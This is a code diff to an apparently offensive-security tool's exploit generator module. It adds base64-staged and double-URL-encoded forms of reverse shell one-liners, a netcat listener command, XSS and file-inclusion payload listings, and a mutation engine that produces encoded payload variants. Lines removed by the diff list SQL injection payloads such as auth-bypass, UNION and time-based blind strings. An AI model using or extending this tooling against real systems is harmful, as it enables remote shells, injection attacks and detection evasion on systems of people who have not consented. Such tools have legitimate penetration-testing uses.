@@ -4,12 +4,15 @@ Exploit payload generation module
 Compiles neural link payloads and injection vectors
 """
 
-import urllib.parse
+import base64
+from core.payload_catalog import get_catalog
+from core.payload_mutator import mutate, count_chains, url_encode, double_url_encode, DEFAULT_TRANSFORMS, ENCODINGS
 from utils.colors import Colors
 
 class ExploitGenerator:
-    def __init__(self, workspace):
+    def __init__(self, workspace, catalog=None):
         self.workspace = workspace
+        self.catalog = catalog or get_catalog()
 
     def reverse_shell(self, lhost, lport=4444, shell_type='all'):
         """Generate reverse neural link payloads"""
@@ -36,18 +39,14 @@ class ExploitGenerator:
                 print(f"{Colors.NEON_CYAN}[{name.upper()} PAYLOAD]{Colors.END}")
                 print(f"{Colors.NEON_GREEN}{payload}{Colors.END}\n")
 
-                encoded = urllib.parse.quote(payload)
-                print(f"{Colors.NEON_PURPLE}[URL ENCODED]{Colors.END}")
-                print(f"{Colors.GRAY}{encoded}{Colors.END}\n")
+                self._print_encodings(name, payload)
                 print(f"{Colors.NEON_PURPLE}━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━{Colors.END}\n")
         else:
             payload = shells.get(shell_type, shells['bash'])
             print(f"{Colors.NEON_CYAN}[{shell_type.upper()} PAYLOAD]{Colors.END}")
             print(f"{Colors.NEON_GREEN}{payload}{Colors.END}\n")
 
-            encoded = urllib.parse.quote(payload)
-            print(f"{Colors.NEON_PURPLE}[URL ENCODED]{Colors.END}")
-            print(f"{Colors.GRAY}{encoded}{Colors.END}\n")
+            self._print_encodings(shell_type, payload)
 
         print(f"{Colors.NEON_YELLOW}[LISTENER COMMAND]{Colors.END}")
         print(f"{Colors.NEON_GREEN}nc -lvnp {lport}{Colors.END}\n")
@@ -64,37 +63,40 @@ class ExploitGenerator:
 
         return shells
 
-    def sqli_payloads(self):
+    def _print_encodings(self, name, payload):
+        """URL, double-URL and base64-staged forms of a shell one-liner"""
+        if name == 'powershell':
+            # -EncodedCommand takes UTF-16LE base64 of the script itself
+            script = payload.split('-c ', 1)[1].strip('"')
+            staged = f"powershell -nop -e {base64.b64encode(script.encode('utf-16-le')).decode()}"
+        else:
+            staged = f"echo {base64.b64encode(payload.encode()).decode()} | base64 -d | bash"
+
+        for label, encoded in (('URL ENCODED', url_encode(payload)),
+                               ('DOUBLE URL ENCODED', double_url_encode(payload)),
+                               ('BASE64 STAGED', staged)):
+            print(f"{Colors.NEON_PURPLE}[{label}]{Colors.END}")
+            print(f"{Colors.GRAY}{encoded}{Colors.END}\n")
+
+    def sqli_payloads(self, dbms=None, tag=None):
         """Generate SQL injection exploit vectors"""
+        return self._payload_listing('sqli', 'SQL INJECTION EXPLOIT DATABASE', 'sqli_payloads', dbms=dbms, tag=tag)
+
+    def xss_payloads(self, tag=None):
+        """XSS payload archive"""
+        return self._payload_listing('xss', 'XSS PAYLOAD ARCHIVE', 'xss_payloads', tag=tag)
+
+    def lfi_payloads(self, tag=None):
+        """File inclusion vectors"""
+        return self._payload_listing('lfi', 'FILE INCLUSION VECTORS', 'lfi_payloads', tag=tag)
+
+    def _payload_listing(self, payload_type, banner, filename, dbms=None, tag=None):
         print(f"{Colors.NEON_PURPLE}━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━{Colors.END}")
-        print(f"{Colors.cyber_exploit('SQL INJECTION EXPLOIT DATABASE')}")
+        print(f"{Colors.cyber_exploit(banner)}")
         print(f"{Colors.NEON_PURPLE}━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━{Colors.END}\n")
 
-        payloads = {
-            'AUTH BYPASS': [
-                "admin' OR '1'='1'--",
-                "admin'--",
-                "' OR '1'='1'--",
-                "' OR 1=1--",
-                "admin' OR '1'='1' #"
-            ],
-            'UNION INJECTION': [
-                "' UNION SELECT NULL--",
-                "' UNION SELECT NULL,NULL--",
-                "' UNION SELECT NULL,NULL,NULL--",
-                "' UNION SELECT database(),NULL,NULL--",
-                "' UNION SELECT table_name,NULL,NULL FROM information_schema.tables--"
-            ],
-            'BOOLEAN BLIND': [
-                "' AND '1'='1",
-                "' AND '1'='2",
-                "' AND SUBSTRING(database(),1,1)='a'--"
-            ],
-            'TIME-BASED BLIND': [
-                "' AND SLEEP(5)--",
-                "' AND IF(1=1, SLEEP(5), 0)--"
-            ]
-        }
+        groups = self.catalog.grouped(payload_type, dbms=dbms, tags=[tag] if tag else ())
+        payloads = {category.replace('_', ' ').upper(): values for category, values in groups.items()}
 
         for category, payload_list in payloads.items():
             print(f"{Colors.NEON_CYAN}[{category}]{Colors.END}")
@@ -103,8 +105,8 @@ class ExploitGenerator:
             print()
 
         # Save to file
-        sqli_file = self.workspace.get_exploit_file('sqli_payloads')
-        with open(sqli_file, 'w') as f:
+        payload_file = self.workspace.get_exploit_file(filename)
+        with open(payload_file, 'w') as f:
             for category, payload_list in payloads.items():
                 f.write(f"[{category}]\n")
                 for payload in payload_list:
@@ -112,6 +114,33 @@ class ExploitGenerator:
                 f.write("\n")
 
         print(f"{Colors.cyber_success('Exploit database loaded')}")
-        print(f"{Colors.NEON_CYAN}[SAVED]{Colors.END} {Colors.NEON_GREEN}{sqli_file}{Colors.END}\n")
+        print(f"{Colors.NEON_CYAN}[SAVED]{Colors.END} {Colors.NEON_GREEN}{payload_file}{Colors.END}\n")
 
         return payloads
+
+    def payload_variants(self, payload_type, transforms=None, depth=1, dbms=None, tag=None, preview=20):
+        """Stream encoded/mutated variants of a payload set to exploits/<type>_variants.txt"""
+        transforms = transforms or DEFAULT_TRANSFORMS.get(payload_type, tuple(ENCODINGS))
+        source = self.catalog.query(type=payload_type, dbms=dbms, tags=[tag] if tag else ())
+
+        print(f"{Colors.NEON_PURPLE}━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━{Colors.END}")
+        print(f"{Colors.cyber_exploit('PAYLOAD MUTATION ENGINE')}")
+        print(f"{Colors.NEON_CYAN}[SOURCE]{Colors.END} {Colors.NEON_GREEN}{len(source)} {payload_type} payloads{Colors.END}")
+        print(f"{Colors.NEON_CYAN}[CHAINS]{Colors.END} {Colors.NEON_GREEN}{count_chains(transforms, depth)} ({', '.join(transforms)}, depth {depth}){Colors.END}")
+        print(f"{Colors.NEON_PURPLE}━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━{Colors.END}\n")
+
+        variants_file = self.workspace.get_exploit_file(f"{payload_type}_variants")
+        written = 0
+        with open(variants_file, 'w') as f:
+            for variant in mutate(source, transforms, payload_type, depth):
+                f.write(f"{variant.label}\t{variant.value}\n")
+                if written < preview:
+                    print(f"  {Colors.GRAY}[{variant.label}]{Colors.END} {variant.value}")
+                written += 1
+
+        if written > preview:
+            print(f"  {Colors.GRAY}... {written - preview} more{Colors.END}")
+        print(f"\n{Colors.cyber_success(f'{written} variants generated')}")
+        print(f"{Colors.NEON_CYAN}[SAVED]{Colors.END} {Colors.NEON_GREEN}{variants_file}{Colors.END}\n")
+
+        return written